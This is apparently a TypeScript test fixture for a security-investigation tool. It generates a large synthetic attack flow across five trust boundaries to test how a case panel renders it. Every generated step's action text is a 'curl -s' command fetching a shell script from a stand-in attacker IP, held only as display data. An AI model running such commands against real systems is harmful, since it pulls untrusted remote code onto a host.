import type { AttackFlow, BoundaryKind, Step } from '../../src/extension/core/model/case.ts';
import type { Cites } from '../../src/extension/core/model/evidence.ts';
import { code, phrase, text } from '../../src/extension/core/model/phrase.ts';
import type { Tactic } from '../../src/extension/core/model/tactic.ts';
import { toFlow } from '../../src/extension/editor/casePanel/caseViewFlow.ts';
import type { CaseView } from '../../src/webview/protocol/casePanel.ts';
import { storefrontView } from './storefrontView.ts';

const kinds: readonly BoundaryKind[] = ['external', 'container', 'host', 'cloud', 'identity'];
const tactics: readonly Tactic[] = ['initial_access', 'execution', 'persistence', 'discovery'];

/**
 * A flow of so many steps through five boundaries as the host makes it: every third step changes tactic, every seventh goes back to the boundary
 * before, every sixth link is inferred.
 * @param apart that no two steps in a row share place and tactic, so that none is folded before the hard limit
 */
export function largeFlow(count: number, apart = false): AttackFlow {
  const boundaries = kinds.map((kind, index) => ({ id: `B${index + 1}`, kind, label: `${kind} of prod-eu-1/shop/storefront` }));
  const steps = Array.from({ length: count }, (_, index) => largeStep(index, count, apart));
  const links = steps.slice(1).map((to, index) => ({
    from: steps[index % 5 === 4 ? index - 3 : index]?.id ?? 'S1',
    to: to.id,
    reason: { phrase: phrase`same process tree`, cites: to.cites },
    inferred: index % 6 === 5,
  }));
  return { boundaries, steps, links, unlinked: [] };
}

function largeStep(index: number, count: number, apart: boolean): Step {
  const place = Math.floor((index * kinds.length) / count);
  const back = index % 7 === 3 ? Math.max(0, place - 1) : place;
  const tactic = tactics[apart ? index % 4 : Math.floor(index / 3) % 4];
  return {
    id: `S${index + 1}`,
    at: Date.UTC(2026, 5, 10, 9) + index * 17_000,
    action: phrase`${text('bash')} ran ${code(`curl -s http://198.51.100.23/tool-${index}.sh`)}`,
    boundary: `B${back + 1}`,
    ...(tactic !== undefined && { tactic }),
    role: index === 0 ? 'entry' : index % 4 === 2 ? 'malicious' : 'step',
    times: 1,
    eventIds: [],
    cites: [`E${index + 1}`] as unknown as Cites,
  };
}

/** A case view with that flow. */
export function viewOf(chain: AttackFlow): CaseView {
  return { ...storefrontView, flow: toFlow({ flow: { status: 'done', value: chain }, chain }) };
}
